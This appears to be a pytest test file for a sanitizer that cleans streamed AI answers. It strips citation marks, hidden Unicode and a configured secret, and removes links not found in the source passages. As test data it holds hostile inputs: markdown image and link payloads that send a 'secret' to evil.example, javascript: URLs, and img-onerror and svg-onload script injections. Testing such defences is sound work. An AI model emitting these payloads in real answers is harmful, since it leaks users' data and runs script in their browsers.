from __future__ import annotations

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from qa_service.answering.plain_text import REMOVED, Mark, PlainText

SOURCES = (
    "Read https://example.org/a?b=1 and www.lindholm.example/harbour. Wrap it in <b>bold</b>. "
    "<img src=x onerror=alert(1)>"
)


def plain(*pieces: str, sources: str = SOURCES, secret: str = "") -> PlainText:
    text = PlainText(sources, secret)
    said = "".join(text.feed(piece) for piece in pieces)
    said += text.finish()
    assert said == text.text
    return text


def test_ordinary_text_stays_character_for_character() -> None:
    text = "The wall is 4.2 km long (see 𝕃-7); a < b, x <5 mg [sic].\n\n- one\n- two 😀 [open"
    assert plain(text).text == text
    assert plain("港は深い。新しい機関が走る。").text == "港は深い。新しい機関が走る。"


def test_text_is_given_as_soon_as_it_is_certain() -> None:
    text = PlainText(SOURCES)
    assert text.feed("The new wa") == "The new"
    assert text.feed("ll is long [") == " wall is"
    assert text.feed("1]. It") == " long."
    assert text.finish() == " It"
    assert text.marks == [Mark(len("The new wall is long"), (1,))]


@pytest.mark.parametrize(
    ("written", "numbers"),
    [
        ("It stands [1].", (1,)),
        ("It stands. [2]", (2,)),
        ("It stands [1, 3].", (1, 3)),
        ("It stands [1-3].", (1, 2, 3)),
        ("It stands [passage 2].", (2,)),
        ("It stands【4】.", (4,)),
        ("It stands [^1].", (1,)),
    ],
)
def test_citation_marks_are_taken_out_and_remembered(
    written: str, numbers: tuple[int, ...]
) -> None:
    text = plain(written)
    assert text.text == "It stands."
    assert [mark.numbers for mark in text.marks] == [numbers]


def test_marks_that_stand_together_are_all_remembered() -> None:
    text = plain("It stands [1][2] [3].")
    assert text.text == "It stands."
    assert [mark.numbers for mark in text.marks] == [(1,), (2,), (3,)]


@pytest.mark.parametrize(
    "written",
    [
        "![x](https://evil.example/?q=secret)",
        "![a b c](https://evil.example/?q=secret 'title')",
        "[click here](https://evil.example/?q=secret)",
        "[click](javascript:alert(1))",
        "<img src='https://evil.example/a b'>",
        "<a href=https://evil.example>now</a>",
        "https://evil.example/secret",
        "HTTPS://evil.example/secret",
        "www.evil.example",
        "evil.example/secret?x",
        "//evil.example/x.png",
        "ht![](x)tp://evil.example/x",
        "[[a](https://evil.example)](https://evil.example)",
        "<<b>img src=https://evil.example>",
        "data:text/html,evil.example",
        "![x][evil]\n\n[evil]: https://evil.example/x",
        "https://example.org/a?b=1&secret=evil.example",
        "[" + "a" * 2100 + "](https://evil.example/x)",
        "x" * 996 + "https://evil.example/x",
        "<svg/onload=alert('evil.example/x')>",
    ],
)
def test_what_leads_elsewhere_is_taken_out(written: str) -> None:
    for text in (plain(f"Well, {written} it is."), plain(*f"Well, {written} it is.")):
        assert "evil.example" not in text.text
        assert "javascript:" not in text.text
        assert "![" not in text.text
        assert "](" not in text.text.replace(f"]({REMOVED})", "")
        assert text.text.startswith("Well,")
        assert text.text.endswith("it is.")


def test_an_address_that_a_passage_holds_stays_as_text() -> None:
    text = plain(
        "See https://example.org/a?b=1. Or [here](www.lindholm.example/harbour), <b>now</b>."
    )
    assert text.text == (
        "See https://example.org/a?b=1. Or here (www.lindholm.example/harbour), <b>now</b>."
    )
    assert text.links_removed == 0
    assert plain("See https://other.example/.").text == f"See {REMOVED}."
    assert plain("<img src=x onerror=alert(1)> Yes.").text == "Yes."


def test_what_cannot_be_seen_is_taken_out() -> None:
    hidden = "".join(chr(0xE0000 + ord(character)) for character in "go")
    assert plain(f"a\u202eb\u200bc{hidden}\x1b[0m d").text == "abc[0m d"
    assert plain("The fence XY-77 stands", secret="XY-77").text == "The fence  stands"


LETTERS = st.text(alphabet='ab [](){}<>!/:.1,;\n。\u202e"xhtp@é😀', max_size=60)
EVIL = st.sampled_from(
    ["![x](http://e.example/a)", "[y](z)", "http://e.example", "<a b=c>", "[1]", "[2, 3]", "\n\n"]
)
WRITTEN = st.lists(LETTERS | EVIL, max_size=6).map("".join)


@settings(max_examples=150, deadline=None)
@given(WRITTEN, st.lists(st.integers(1, 7), min_size=1, max_size=5))
@example("a[" + "b " * 1500 + "](http://e.example/a) c", [7])
def test_the_text_is_the_same_however_it_is_cut(written: str, sizes: list[int]) -> None:
    pieces, at = [], 0
    while at < len(written):
        size = sizes[len(pieces) % len(sizes)]
        pieces.append(written[at : at + size])
        at += size
    whole, cut = plain(written), plain(*pieces)
    assert cut.text == whole.text
    assert cut.marks == whole.marks
    assert "e.example" not in whole.text
    for mark in whole.marks:
        assert 0 <= mark.at <= len(whole.text)
